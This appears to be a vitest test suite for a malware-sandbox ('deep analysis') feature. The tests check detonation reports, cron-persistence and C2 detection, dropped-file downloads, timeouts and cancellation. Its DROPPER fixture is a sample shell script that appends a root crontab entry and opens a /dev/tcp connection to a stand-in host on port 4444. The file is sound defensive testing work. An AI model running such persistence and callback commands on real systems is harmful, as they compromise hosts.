import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Analysis, AnalysisDetail } from '@quell/contracts';
import { NotSupportedError } from '@quell/core';
import { AnalysisService } from '../src/analysis/analysis.service.js';
import type { IndicatorMatcher } from '../src/analysis/indicator-matcher.js';
import type { SandboxReport } from '../src/sandbox/index.js';
import { createHarness, type Harness } from './harness.js';
import { requirements, SANDBOX_REQUIREMENTS } from './support/sandbox-requirements.js';

// Detonations are the same on both databases and take seconds each: the SQLite project runs them
// (vitest.config.ts keeps this file out of the PostgreSQL project; the check below guards other runs).
const onThisProject = process.env.QUELL_TEST_DB !== 'postgres';
const missing = onThisProject ? requirements(SANDBOX_REQUIREMENTS, 'deep-analysis tests') : [];

const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

const PAYLOAD = 'quell-analysis-payload: not really malware\n';
const DROPPER = [
  '#!/bin/sh',
  `printf '${PAYLOAD.replace('\n', '\\n')}' > /tmp/payload.bin`,
  "echo '*/5 * * * * root /tmp/payload.bin' >> /etc/crontab",
  "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444' 2>/dev/null",
  "sh -c 'echo child-ran'",
  '',
].join('\n');
const SLEEPER = '#!/bin/sh\nsleep 613\n';

/** Sleepers still alive (zombies excluded): a detonation that was not killed. */
const liveSleepers = () =>
  execFileSync('ps', ['-eo', 'stat=,args='], { encoding: 'utf8' })
    .split('\n')
    .filter((l) => /sleep 613/.test(l) && !/^Z/.test(l.trim()));

describe.skipIf(!onThisProject || missing.length > 0)(
  'deep analysis through the API and the action pipeline',
  () => {
    let h: Harness;
    let dir: string;
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), 'quell-analyses-test-'));
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));
    beforeEach(async () => {
      h = await createHarness();
    });
    afterEach(async () => {
      // A failed test may leave a detonation in flight: let it end before its store closes.
      await h.services.dispatcher.settle();
      await h.close();
    });

    async function upload(
      name: string,
      content: string | Buffer,
      query = '',
      token = h.adminToken,
    ): Promise<{ status: number; body: any }> {
      const res = await h.app.inject({
        method: 'POST',
        url: `/api/analyses/upload?name=${encodeURIComponent(name)}${query}`,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
        payload: Buffer.from(content),
      });
      return { status: res.statusCode, body: JSON.parse(res.body) };
    }

    /** One dispatcher pass and every detonation it started, to the end. */
    async function dispatch(): Promise<void> {
      await h.services.dispatcher.tick();
      await h.services.dispatcher.settle();
    }

    const detail = async (id: string) =>
      (await h.api('GET', `/api/analyses/${id}`, h.adminToken)).body as AnalysisDetail;
    const report = (d: AnalysisDetail) => d.report as unknown as SandboxReport;
    const counts = async () => ({
      analyses: (await h.store.db.selectFrom('analyses').select('id').execute()).length,
      actions: (await h.store.db.selectFrom('actions').select('id').execute()).length,
      blobs: (await h.store.db.selectFrom('blobs').select('sha256').execute()).length,
    });

    it('detonates an uploaded dropper: dropped file, cron persistence, C2 attempt, process tree, and the action succeeds with the verdict', async () => {
      const res = await upload('dropper.sh', DROPPER, '&timeoutSeconds=30&comment=from%20mail');
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      const submitted = res.body as Analysis;
      expect(submitted).toMatchObject({
        sha256: sha256(DROPPER),
        fileName: 'dropper.sh',
        status: 'queued',
        timeoutSeconds: 30,
        comment: 'from mail',
      });
      const queue = await h.api('GET', '/api/analyses?status=queued', h.adminToken);
      expect(queue.body.items.map((a: Analysis) => a.id)).toEqual([submitted.id]);

      await dispatch();

      const d = await detail(submitted.id);
      expect(d.status).toBe('completed');
      expect(d.startedAt).not.toBeNull();
      expect(d.finishedAt).not.toBeNull();
      const r = report(d);
      expect(d.verdict).toBe(r.verdict);
      expect(d.verdict).toBe('malicious');
      const dropped = r.files.find((f) => f.path === '/tmp/payload.bin');
      expect(dropped).toMatchObject({ change: 'created', sha256: sha256(PAYLOAD) });
      expect(r.behaviours.map((b) => b.techniqueId)).toContain('T1053.003');
      expect(
        r.persistence.some((p) => p.path === '/etc/crontab' && p.excerpt.includes('/tmp/payload.bin')),
      ).toBe(true);
      expect(r.network).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ address: '203.0.113.7', port: 4444, protocol: 'tcp' }),
        ]),
      );
      const root = r.processes.find((p) => p.ppid === null);
      expect(root?.argv.join(' ')).toContain('dropper.sh');
      const children = r.processes.filter((p) => p.ppid === root?.pid);
      expect(children.length).toBeGreaterThan(0);
      expect(r.processes.some((p) => p.argv.join(' ').includes('/dev/tcp/203.0.113.7/4444'))).toBe(true);

      // The report, the trace and the dropped file are blobs.
      expect(await h.services.blobs.has(d.reportSha256 ?? '')).toBe(true);
      expect(await h.services.blobs.has(d.traceSha256 ?? '')).toBe(true);
      expect(await h.services.blobs.has(sha256(PAYLOAD))).toBe(true);

      const action = await h.api('GET', `/api/actions/${d.actionId}`, h.adminToken);
      expect(action.body).toMatchObject({
        type: 'deep_analysis',
        status: 'succeeded',
        target: { kind: 'file', id: sha256(DROPPER) },
        result: { verdict: 'malicious', reportBlobSha256: d.reportSha256 },
      });

      // A malicious verdict raises one alert on the sample, with the techniques seen.
      const alerts = await h.store.db.selectFrom('alerts').selectAll().execute();
      expect(alerts).toHaveLength(1);
      expect(alerts[0]?.title).toContain('dropper.sh is malicious');
      expect(alerts[0]?.mitre).toContain('T1053.003');
    });

    it('lets an analyst download a dropped file as a password zip that 7-Zip opens, and audits it', async () => {
      const { body } = await upload('dropper.sh', DROPPER);
      await dispatch();
      const analyst = await h.login('analyst');
      const password = 'correct horse battery';
      const url = `/api/analyses/${body.id}/download`;
      const res = await h.app.inject({
        method: 'POST',
        url,
        headers: { authorization: `Bearer ${analyst.token}`, 'content-type': 'application/json' },
        payload: JSON.stringify({ sha256: sha256(PAYLOAD), password, reason: 'reverse engineering' }),
      });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.headers['content-type']).toContain('application/zip');
      const zip = join(dir, `${body.id}.zip`);
      writeFileSync(zip, res.rawPayload);
      const out = join(dir, `${body.id}-out`);
      execFileSync('7z', ['x', `-p${password}`, `-o${out}`, '-y', zip], { stdio: 'ignore' });
      expect(sha256(readFileSync(join(out, 'payload.bin')))).toBe(sha256(PAYLOAD));
      const wrong = spawnSync('7z', ['x', '-pwrong-password', `-o${out}-wrong`, '-y', zip], {
        stdio: 'ignore',
      });
      expect(wrong.status).not.toBe(0);

      const viewer = await h.login('viewer');
      const refused = await h.api('POST', url, viewer.token, {
        sha256: sha256(PAYLOAD),
        password,
        reason: 'curious',
      });
      expect(refused.status).toBe(403);
      const notDropped = await h.api('POST', url, analyst.token, {
        sha256: 'e'.repeat(64),
        password,
        reason: 'x',
      });
      // The sample itself is not a dropped file: only what it wrote is offered here.
      const sample = await h.api('POST', url, analyst.token, {
        sha256: sha256(DROPPER),
        password,
        reason: 'x',
      });
      expect(sample.status).toBe(404);
      expect(notDropped.status).toBe(404);
      const audit = await h.api('GET', `/api/audit?subject=${body.id}`, h.adminToken);
      const downloads = audit.body.items.filter(
        (e: { event: string }) => e.event === 'analysis.file_downloaded',
      );
      expect(downloads).toHaveLength(1);
      expect(downloads[0].data).toMatchObject({ sha256: sha256(PAYLOAD), reason: 'reverse engineering' });
    });

    it('reports a sample that sleeps past its timeout as timed out, without hanging, and its action ends', async () => {
      const { body } = await upload('sleeper.sh', SLEEPER, '&timeoutSeconds=2');
      const started = Date.now();
      await dispatch();
      expect(Date.now() - started).toBeLessThan(30_000);
      const d = await detail(body.id);
      expect(d.status).toBe('timed_out');
      expect(report(d).status).toBe('timed_out');
      const action = await h.api('GET', `/api/actions/${d.actionId}`, h.adminToken);
      expect(action.body.status).toBe('succeeded');
      expect(liveSleepers()).toEqual([]);
    });

    it('queues analyses one at a time and runs the next when the sandbox frees', async () => {
      const a = (await upload('first.sh', SLEEPER, '&timeoutSeconds=1')).body as Analysis;
      const b = (await upload('second.sh', `${SLEEPER}# second\n`, '&timeoutSeconds=1')).body as Analysis;
      await dispatch();
      expect((await detail(a.id)).status).toBe('timed_out');
      const waiting = await detail(b.id);
      expect(waiting.status).toBe('queued');
      const waitingAction = await h.api('GET', `/api/actions/${waiting.actionId}`, h.adminToken);
      expect(waitingAction.body).toMatchObject({ status: 'queued' });
      expect(waitingAction.body.error).toContain('sandbox is busy');
      await dispatch();
      expect((await detail(b.id)).status).toBe('timed_out');
    });

    it('resubmits a file as a new analysis linked to the first, by hash and without a new upload', async () => {
      const first = (await upload('dropper.sh', DROPPER, '&timeoutSeconds=20')).body as Analysis;
      await dispatch();
      const again = await h.api('POST', `/api/analyses/${first.id}/resubmit`, h.adminToken, {
        comment: 'once more',
      });
      expect(again.status, JSON.stringify(again.body)).toBe(201);
      expect(again.body).toMatchObject({
        sha256: first.sha256,
        fileName: 'dropper.sh',
        timeoutSeconds: 20,
        resubmissionOf: first.id,
        status: 'queued',
      });
      expect(again.body.actionId).not.toBe(first.actionId);
      const byHash = await h.api('POST', '/api/analyses', h.adminToken, { sha256: first.sha256 });
      expect(byHash.status, JSON.stringify(byHash.body)).toBe(201);
      expect(byHash.body.fileName).toBe('dropper.sh');
      await dispatch();
      await dispatch();
      const history = await h.api('GET', `/api/analyses?sha256=${first.sha256}`, h.adminToken);
      expect(history.body.items.map((x: Analysis) => x.status)).toEqual([
        'completed',
        'completed',
        'completed',
      ]);
    });

    it('cancels a running analysis: the detonation is killed and the action is cancelled', async () => {
      const { body } = await upload('sleeper.sh', SLEEPER, '&timeoutSeconds=120');
      await h.services.dispatcher.tick();
      for (let i = 0; i < 100 && (await detail(body.id)).status !== 'running'; i++)
        await new Promise((r) => setTimeout(r, 100));
      expect((await detail(body.id)).status).toBe('running');
      const started = Date.now();
      const res = await h.api('POST', `/api/analyses/${body.id}/cancel`, h.adminToken, {
        comment: 'wrong file',
      });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.status).toBe('cancelled');
      await h.services.dispatcher.settle();
      expect(Date.now() - started).toBeLessThan(20_000);
      const action = await h.api('GET', `/api/actions/${body.actionId}`, h.adminToken);
      expect(action.body.status).toBe('cancelled');
      expect((await detail(body.id)).status).toBe('cancelled');
      expect(liveSleepers()).toEqual([]);
      const again = await h.api('POST', `/api/analyses/${body.id}/cancel`, h.adminToken, {});
      expect(again.status).toBe(409);
    });

    it('raises an alert when an indicator matches a dropped file’s hash', async () => {
      const seen: string[] = [];
      const matcher: IndicatorMatcher = {
        match: (type, value) => {
          seen.push(`${type}:${value}`);
          return Promise.resolve(
            type === 'sha256' && value === sha256(PAYLOAD)
              ? { indicatorId: 'ioc_payload', title: 'Known payload', severity: 'high', action: 'block' }
              : null,
          );
        },
      };
      h.services.analyses.setIndicatorMatcher(matcher);
      const { body } = await upload('dropper.sh', DROPPER);
      await dispatch();
      expect(seen).toEqual(
        expect.arrayContaining([
          `sha256:${sha256(DROPPER)}`,
          `sha256:${sha256(PAYLOAD)}`,
          'ipv4:203.0.113.7',
        ]),
      );
      const alerts = await h.store.db.selectFrom('alerts').selectAll().execute();
      const ioc = alerts.find((a) => a.title.includes('matches indicator'));
      expect(ioc?.title).toBe(
        'Deep analysis: the dropped file /tmp/payload.bin matches indicator "Known payload"',
      );
      expect(ioc?.severity).toBe('high');
      expect(ioc?.external_id).toBe(`analysis:${body.id}:ioc:sha256:${sha256(PAYLOAD)}`);
      const entities = JSON.parse(ioc?.entities ?? '[]') as Array<{ kind: string; evidence?: unknown }>;
      expect(JSON.stringify(entities)).toContain(sha256(PAYLOAD));
      expect(entities.map((e) => e.kind).sort()).toEqual(['file', 'file']);
    });

    it('refuses bad submissions with a clear error and writes nothing', async () => {
      const before = await counts();
      const unknown = await h.api('POST', '/api/analyses', h.adminToken, { sha256: 'b'.repeat(64) });
      expect(unknown.status).toBe(404);
      expect(unknown.body.message).toMatch(/collect.*upload/i);
      for (const t of [0, 601]) {
        const bad = await upload('x.sh', SLEEPER, `&timeoutSeconds=${t}`);
        expect(bad.status).toBe(400);
        expect(bad.body.message).toContain('timeoutSeconds');
      }
      const tooBig = await upload('big.bin', Buffer.alloc(64 * 1024 * 1024 + 1, 0x41));
      expect(tooBig.status).toBe(400);
      expect(tooBig.body.message).toContain('larger than');
      const empty = await upload('empty.sh', '');
      expect(empty.status).toBe(400);
      const json = await h.api('POST', '/api/analyses/upload?name=x.sh', h.adminToken, { file: 'x' });
      expect(json.status).toBe(400);
      const viewer = await h.login('viewer');
      expect((await upload('x.sh', SLEEPER, '', viewer.token)).status).toBe(403);
      expect(await counts()).toEqual(before);
      const octetElsewhere = await h.app.inject({
        method: 'POST',
        url: '/api/analyses',
        headers: { authorization: `Bearer ${h.adminToken}`, 'content-type': 'application/octet-stream' },
        payload: Buffer.from('x'),
      });
      expect(octetElsewhere.statusCode).toBe(400);
    });
  },
);

describe.skipIf(!onThisProject)('deep analysis without a sandbox', () => {
  let h: Harness;
  beforeEach(async () => {
    h = await createHarness();
  });
  afterEach(async () => {
    await h.close();
  });

  it('refuses submissions with a NotSupportedError saying what to install', async () => {
    const s = h.services;
    const service = new AnalysisService(
      s.ctx,
      {
        settings: s.settings,
        deviceGroups: s.deviceGroups,
        incidents: s.incidents,
        ingest: s.ingest,
        actions: s.actions,
        actionBatches: s.actionBatches,
        blobs: s.blobs,
      },
      {
        runner: {
          missing: () => Promise.resolve(['bwrap (Debian package bubblewrap)']),
          detonate: () => Promise.reject(new Error('not reached')),
        },
      },
    );
    const { sha256: stored } = await s.blobs.put(Buffer.from(SLEEPER));
    const admin = {
      kind: 'user' as const,
      id: 'u1',
      name: 'admin@example.com',
      role: 'admin' as const,
      deviceGroupIds: [],
    };
    const attempt = service.submit(admin, { sha256: stored });
    await expect(attempt).rejects.toThrow(NotSupportedError);
    await expect(attempt).rejects.toThrow(
      'deep analysis needs bubblewrap and strace: run scripts/install-test-deps.sh',
    );
    expect(await h.store.db.selectFrom('analyses').select('id').execute()).toEqual([]);
  });
});
